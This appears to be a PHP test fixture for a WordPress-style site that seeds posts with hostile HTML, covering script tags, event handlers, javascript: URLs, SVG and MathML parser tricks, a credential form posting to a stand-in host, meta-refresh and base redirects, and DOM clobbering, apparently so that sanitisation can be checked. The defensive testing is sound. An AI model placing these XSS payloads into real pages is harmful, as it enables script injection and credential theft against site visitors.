<?php
/*
 * What an account that was taken over would write. Whatever runs sets window.hostile; whatever is fetched comes from
 * elsewhere.example. Each body has healthy words before and after.
 */
$picture = wp_get_attachment_url( upload_drawn( 'images/gaza-480.webp', 'harmless.jpg' ) );
$bodies  = array(
	'script'     => '<script>window.hostile = "script"</script><script src="https://elsewhere.example/script.js"></script>',
	'events'     => '<img src="' . $picture . '" onload="window.hostile = \'onload\'" onerror="window.hostile = \'onerror\'"><p onclick="window.hostile = 1" onmouseover="window.hostile = 1">Touch me.</p><details open ontoggle="window.hostile = 1"><summary>More</summary>Inside</details><video src="x" onerror="window.hostile = 1"></video>',
	'frames'     => '<iframe src="javascript:parent.hostile=1"></iframe><iframe srcdoc="<script>parent.hostile = 1</script>"></iframe><p>Words that texturize swallows.</p><object data="https://elsewhere.example/o.swf"></object><embed src="https://elsewhere.example/e.swf">',
	'svg'        => '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hostile = 1" width="10" height="10"><script>window.hostile = 1</script><image href="https://elsewhere.example/i.png"/><a xlink:href="javascript:window.hostile=1"><text y="9">x</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror="window.hostile=1"></style></mglyph></table></mtext></math>',
	'forms'      => '<form action="https://elsewhere.example/steal" id="app"><input name="attributes" value="typed"><input type="password" name="querySelector" autofocus onfocus="window.hostile = 1"><button formaction="javascript:window.hostile=1">Sign in</button><select><option>one</option></select><textarea>left</textarea></form>',
	'head'       => '<base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example/"><link rel="stylesheet" href="https://elsewhere.example/s.css"><style>body{display:none} @import url(https://elsewhere.example/i.css);</style><title>Another title</title>',
	'shadows'    => '<a id="defaultView" name="defaultView" href="x">a</a><img name="body" src="data:,"><p id="main">main</p><div class="masthead lead related-news" role="alert" tabindex="1" contenteditable>Dressed as the page</div><dialog open>A dialog</dialog>',
	'unfinished' => '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>"></p></noscript><template><img src="https://elsewhere.example/t.png"></template><!-- a comment --!><img src=x onerror="window.hostile=1">--><textarea><p>Swallowed</p></textarea>',
);
foreach ( $bodies as $slug => $content ) {
	post(
		array(
			'slug'    => "hostile-$slug",
			'title'   => "Hostile: $slug",
			'content' => "<p>Healthy words before.</p>\n$content\n<p>Healthy words after.</p>",
		)
	);
}
